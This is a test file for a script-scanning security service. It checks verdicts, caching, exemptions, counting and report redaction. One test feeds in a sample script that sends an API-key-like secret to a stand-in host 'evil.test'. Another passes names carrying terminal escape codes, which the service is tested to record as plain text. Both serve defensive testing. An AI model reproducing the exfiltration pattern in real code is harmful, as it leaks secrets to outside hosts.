"""One scan as its steps: what is kept, what is left out, what happens when something is away."""

import hashlib
import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from guardian import services
from guardian.engine.scanning import MOST_FINDINGS, MOST_TRIES, Asked, Desk, Recent, scan
from guardian.host.quarantine import Place
from guardian.logs.lines import JsonLines
from guardian.scanner.policy import Exemption
from tests.host.dying import dies_at
from tests.redis_server import RedisServer

NOW, BAD = datetime(2027, 1, 15, tzinfo=UTC), "eval('1')\n"


@pytest.fixture
def desk(redis_server: RedisServer, tmp_path: Path) -> Iterator[Desk]:
    config = services.load_config(None)
    store = services.open_store(config, redis_server.url, tmp_path)
    made = services.desk(config, store, tmp_path)
    yield replace(made, place=Place(tmp_path / "q", [tmp_path / "made"]))
    made.child.close()
    store.close()


def test_a_message_that_ended_workers_is_not_tried_again(desk: Desk) -> None:
    for _ in range(MOST_TRIES):
        desk.scans.begin("m1", "content")
    answer = scan(desk, "m1", Asked(source="x = 1"), NOW).answer
    assert [each["message"] for each in answer["findings"]] == ["reading it ended 3 workers"]
    assert scan(desk, "m2", Asked(source="x = 1"), NOW).answer["verdict"] == "allow"


def test_without_a_store_it_is_scanned_all_the_same(desk: Desk, redis_server: RedisServer) -> None:
    redis_server.kill()
    try:
        done = scan(desk, "m", Asked(source=BAD), NOW)
        done.keep()
    finally:
        redis_server.restart()
    assert (done.answer["verdict"], done.answer["cached"]) == ("block", False)


def test_without_a_key_there_is_no_receipt(desk: Desk, tmp_path: Path) -> None:
    (tmp_path / "receipt-key").mkdir()
    assert scan(desk, "m", Asked(source="x = 1"), NOW).answer["receipt"] is None


def test_a_report_that_cannot_be_written_stops_nothing_and_is_said(desk: Desk, tmp_path: Path) -> None:
    done = scan(replace(desk, report=JsonLines(tmp_path, 1000)), "m", Asked(source="x = 1"), NOW)
    assert done.answer["verdict"] == "allow"
    assert "cannot be written: Is a directory" in (done.trouble or "")


def test_an_answer_has_the_worst_findings_and_says_how_many_are_left_out(desk: Desk) -> None:
    source = "print(open(path))\n" * 50 + BAD * (MOST_FINDINGS + 30)
    answer = scan(desk, "m", Asked(source=source), NOW).answer
    assert {each["severity"] for each in answer["findings"]} == {"block"}
    assert len(answer["findings"]) == MOST_FINDINGS
    assert answer["findings_left_out"] >= 30
    assert [each["line"] for each in answer["findings"]] == sorted(each["line"] for each in answer["findings"])


def test_no_secret_of_a_script_gets_into_the_security_report(desk: Desk) -> None:
    secret = "sk-" + "a1B2" * 10
    scan(desk, "m", Asked(source=f"import requests\nrequests.get('https://evil.test/?k={secret}')\n"), NOW)
    line = desk.report.path.read_text()
    assert json.loads(line)["verdict"] == "review"
    assert secret not in line


def test_an_exception_by_path_counts_for_paths_alone(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "made" / "a.py"
    path.parent.mkdir()
    path.write_text(BAD)
    own = replace(desk, policy=replace(desk.policy, exceptions=(Exemption("G101", "why", path=str(path)),)))
    by_path = scan(own, "m1", Asked(path=str(path)), NOW)
    by_path.keep()
    assert by_path.answer["verdict"] == "allow"
    other = path.with_name("b.py")
    other.write_text(BAD)
    assert scan(own, "m2", Asked(path=str(other)), NOW).answer["verdict"] == "block"
    assert scan(own, "m3", Asked(source=BAD, filename=str(path)), NOW).answer["verdict"] == "block"


def test_a_cached_report_is_not_used_for_another_policy(desk: Desk) -> None:
    first = scan(desk, "m1", Asked(source="x = 1"), NOW)
    first.keep()
    other = replace(desk, policy=replace(desk.policy, max_nodes=9))
    elsewhere = replace(desk, recent=Recent())
    assert scan(desk, "m2", Asked(source="x = 1"), NOW).answer["cached"]
    assert scan(elsewhere, "m2", Asked(source="x = 1"), NOW).answer["cached"]
    assert not scan(other, "m3", Asked(source="x = 1"), NOW).answer["cached"]


def test_what_a_process_remembers_is_bounded_and_what_is_asked_for_again_stays(desk: Desk) -> None:
    few = Recent(2)
    sources = [f"x = {number}" for number in range(3)]
    for source in (sources[0], sources[1], sources[0], sources[2]):
        scan(replace(desk, recent=few), "m", Asked(source=source), NOW)
    assert len(few._held) == 2
    reports = [report.sha256 for report in few._held.values()]
    assert reports == [hashlib.sha256(source.encode()).hexdigest() for source in (sources[0], sources[2])]


def test_what_could_not_be_read_to_its_end_is_tried_anew(desk: Desk) -> None:
    slow = replace(desk, policy=replace(desk.policy, max_bytes=2))
    first = scan(slow, "m1", Asked(source="x = 1"), NOW)
    first.keep()
    assert first.answer["findings"][0]["rule"] == "G001"
    assert not scan(slow, "m2", Asked(source="x = 1"), NOW).answer["cached"]


def counted(desk: Desk, redis_server: RedisServer, tmp_path: Path) -> dict[str, int]:
    store = services.open_store(services.load_config(None), redis_server.url, tmp_path)
    desk.scans.hand_over()
    entries = [fields for _, fields in store.past.entries(None, 100)]
    store.close()
    return {f"{each['what']} {each['agent']}": each["count"]
            for fields in entries for each in json.loads(fields.get("scans", "[]"))}  # fmt: skip


def test_each_scan_is_counted_once_however_often_its_message_comes(
    desk: Desk, redis_server: RedisServer, tmp_path: Path
) -> None:
    for message, source in (("m1", BAD), ("m1", BAD), ("m2", BAD), ("m3", "x = 1"), ("m3", "x = 1")):
        scan(desk, message, Asked(source=source, agent="writer"), NOW).keep()
    assert counted(desk, redis_server, tmp_path) == {"block writer": 2, "G101 writer": 2, "allow writer": 1}


def test_a_worker_that_dies_anywhere_leaves_a_blocked_script_counted_once(
    desk: Desk, redis_server: RedisServer, tmp_path: Path
) -> None:
    """The message comes again, and whichever line the death was at, it is in the history once."""
    died, line = True, 0
    while died:
        line += 7
        asked, message = Asked(source=BAD, agent=f"a{line}"), f"message {line}"
        died = dies_at(line, "guardian.engine.scanning", lambda: scan(desk, message, asked, NOW))  # noqa: B023
        scan(desk, message, asked, NOW)
    counts = counted(desk, redis_server, tmp_path)
    assert {counts[f"block a{number}"] for number in range(7, line + 1, 7)} == {1}


def test_names_of_strangers_are_counted_as_plain_text(desk: Desk, redis_server: RedisServer, tmp_path: Path) -> None:
    asked = Asked(source=BAD, filename="a\ud800\n.py", agent="w\udcff\x1b[31m\n" + "x" * 200)
    scan(desk, "m", asked, NOW)
    (name,) = [each for each in counted(desk, redis_server, tmp_path) if each.startswith("block ")]
    assert name.isprintable()
    assert len(name) <= len("block ") + 80
